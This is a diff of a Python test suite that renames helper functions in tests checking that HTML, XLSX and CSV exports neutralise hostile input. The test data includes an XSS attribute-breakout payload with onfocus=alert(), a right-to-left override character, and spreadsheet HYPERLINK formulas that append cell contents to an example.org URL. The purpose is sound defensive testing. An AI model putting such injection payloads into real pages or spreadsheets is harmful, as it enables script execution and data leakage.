@@ -62,7 +62,7 @@ def _request(text: Fill) -> dict[str, Any]:
     }
 
 
-def _made(form: str, text: Fill, engine: Engine) -> bytes:
+def made(form: str, text: Fill, engine: Engine) -> bytes:
     content = json.dumps(_request(text)).encode()
     request = read_assessment_request(content, engine.vocabulary, most_lines=10)
     context = context_from(request, today_utc=TODAY, default_destination=None)
@@ -71,7 +71,7 @@ def _made(form: str, text: Fill, engine: Engine) -> bytes:
 
 
 def test_markup_in_every_field_is_shown_and_makes_no_tag(engine: Engine) -> None:
-    page = _made("html", lambda n: _HOSTILE.format(n=n), engine)
+    page = made("html", lambda n: _HOSTILE.format(n=n), engine)
 
     tags = tags_in(page)
     assert {name for name, _ in tags} <= _TAGS
@@ -105,7 +105,7 @@ def test_markup_in_names_of_columns_and_of_the_file_makes_no_tag(engine: Engine)
 
 
 def test_an_attribute_cannot_be_left(engine: Engine) -> None:
-    page = _made("html", lambda n: f'" autofocus onfocus="alert({n})" x="', engine)
+    page = made("html", lambda n: f'" autofocus onfocus="alert({n})" x="', engine)
 
     assert [
         name for name, given in tags_in(page) if "onfocus" in given or "autofocus" in given
@@ -113,7 +113,7 @@ def test_an_attribute_cannot_be_left(engine: Engine) -> None:
 
 
 def test_control_characters_and_turned_text_are_replaced(engine: Engine) -> None:
-    page = _made("html", lambda n: f"part\u202e{n}\x0bx", engine).decode()
+    page = made("html", lambda n: f"part\u202e{n}\x0bx", engine).decode()
 
     assert "\u202e" not in page
     assert "\x0b" not in page
@@ -122,7 +122,7 @@ def test_control_characters_and_turned_text_are_replaced(engine: Engine) -> None
 
 @pytest.mark.parametrize("start", _STARTS)
 def test_no_cell_of_a_workbook_is_a_formula(start: str, engine: Engine) -> None:
-    book = openpyxl.load_workbook(io.BytesIO(_made("xlsx", _formula(start), engine)))
+    book = openpyxl.load_workbook(io.BytesIO(made("xlsx", formula_after(start), engine)))
 
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
@@ -134,14 +134,14 @@ def test_no_cell_of_a_workbook_is_a_formula(start: str, engine: Engine) -> None:
 
 @pytest.mark.parametrize("start", _STARTS)
 def test_no_cell_of_a_csv_file_starts_a_formula(start: str, engine: Engine) -> None:
-    text = _made("csv", _formula(start), engine).decode("utf-8-sig")
+    text = made("csv", formula_after(start), engine).decode("utf-8-sig")
 
     cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
     assert sum("HYPERLINK" in cell for cell in cells) > 8
     assert list(_running(cells)) == []
 
 
-def _formula(start: str) -> Fill:
+def formula_after(start: str) -> Fill:
     return lambda n: f'{start}HYPERLINK("http://example.org/?"&A{n + 1})'
 
 
